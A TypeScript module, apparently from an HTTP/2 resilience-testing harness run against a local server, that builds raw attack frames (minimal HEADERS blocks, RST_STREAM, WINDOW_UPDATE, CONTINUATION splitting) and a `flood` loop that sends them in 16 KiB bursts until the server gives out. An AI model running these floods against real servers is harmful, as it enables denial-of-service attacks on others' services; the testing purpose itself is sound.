/**
 * The bytes that attacks over HTTP/2 are made of: header blocks as small as an attacker makes them, and frames in bursts.
 */
import { encodeFrame, encodeLiterals, type FieldList, Flag, FrameType, uint32 } from '../wire/h2-frames.js';
import type { Outcome, Target } from './attack.js';
import { H2Peer, type H2PeerOptions } from './peer.js';

const GET = 0x82;
const POST = 0x83;
const HTTPS = 0x87;
const PATH = 0x04;
const AUTHORITY = 0x01;

const BOTH = Flag.END_HEADERS | Flag.END_STREAM;

/** The nth stream of a client. */
export function streamId(n: number): number {
  return 2 * n + 1;
}

function text(value: string): Buffer {
  if (value.length > 126) throw new RangeError('too long for one octet of length');
  return Buffer.concat([Buffer.of(value.length), Buffer.from(value, 'latin1')]);
}

/** The block of a request that leaves no trace in the table: 30 octets or so. */
export function block(path: string, method: 'GET' | 'POST' = 'GET'): Buffer {
  return Buffer.concat([
    Buffer.of(method === 'GET' ? GET : POST, HTTPS, PATH),
    text(path),
    Buffer.of(AUTHORITY),
    text('localhost'),
  ]);
}

/** A handler that answers after 50 ms. */
const SLOW = block('/small/0/50');
const SLOW_POST = block('/upload/0/0', 'POST');

export function get(id: number, of: Buffer = SLOW): Buffer {
  return encodeFrame(FrameType.HEADERS, BOTH, id, of);
}

export function post(id: number, ...fields: FieldList): Buffer {
  const of = fields.length === 0 ? SLOW_POST : Buffer.concat([SLOW_POST, encodeLiterals(fields)]);
  return encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, of);
}

/** A request with further fields, in one frame. */
export function getWith(id: number, fields: FieldList): Buffer {
  return get(id, Buffer.concat([SLOW, encodeLiterals(fields)]));
}

/** A complete request whose fields are all given, pseudo-headers too. */
export function raw(id: number, fields: FieldList, flags: number = BOTH): Buffer {
  return encodeFrame(FrameType.HEADERS, flags, id, encodeLiterals(fields));
}

export function rst(id: number, errorCode = 8): Buffer {
  return encodeFrame(FrameType.RST_STREAM, 0, id, uint32(errorCode));
}

export function windowUpdate(id: number, increment: number): Buffer {
  return encodeFrame(FrameType.WINDOW_UPDATE, 0, id, uint32(increment));
}

export function data(id: number, bytes: Buffer | string, endStream = false): Buffer {
  return encodeFrame(FrameType.DATA, endStream ? Flag.END_STREAM : 0, id, Buffer.from(bytes));
}

/** A header block in as many frames as it takes (or `frames`), the last with END_HEADERS unless told not to. */
export function inFrames(id: number, bytes: Buffer, size: number, ends = true): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at === 0 || at < bytes.length; at += size) {
    const last = at + size >= bytes.length;
    const flags = (at === 0 ? Flag.END_STREAM : 0) | (last && ends ? Flag.END_HEADERS : 0);
    const type = at === 0 ? FrameType.HEADERS : FrameType.CONTINUATION;
    frames.push(encodeFrame(type, flags, id, bytes.subarray(at, at + size)));
  }
  return Buffer.concat(frames);
}

/** A connection window that answers never use up. */
export const WIDE = windowUpdate(0, 0x7fffffff - 65_535);

/** Octets that go out in one write. */
const BURST = 16_384;

export interface Flood extends H2PeerOptions {
  /** what goes first */
  readonly begin?: Buffer;
  /** units in a write (default: as many as make 16 KiB) */
  readonly batch?: number;
  /** what comes after each write: the answers to all units but these, or some ms */
  readonly after?: { readonly unanswered: number } | { readonly ms: number };
}

/** Sends unit after unit, `make(0)`, `make(1)`, …, until the server or the time ends it. */
export async function flood(target: Target, make: (n: number) => Buffer, options: Flood = {}): Promise<Outcome> {
  const peer = await H2Peer.open(target, options);
  let n = 0;
  if (options.begin !== undefined && !(await peer.write(options.begin))) return peer.outcome();
  for (;;) {
    const burst: Buffer[] = [];
    for (let size = 0; size < BURST && burst.length < (options.batch ?? BURST); ) {
      const unit = make(n++);
      burst.push(unit);
      size += unit.length;
    }
    if (!(await peer.write(Buffer.concat(burst)))) return peer.outcome();
    const { after } = options;
    if (after === undefined) continue;
    if ('ms' in after) await peer.idle(after.ms);
    else await peer.wait(() => peer.answers + after.unanswered >= n);
  }
}
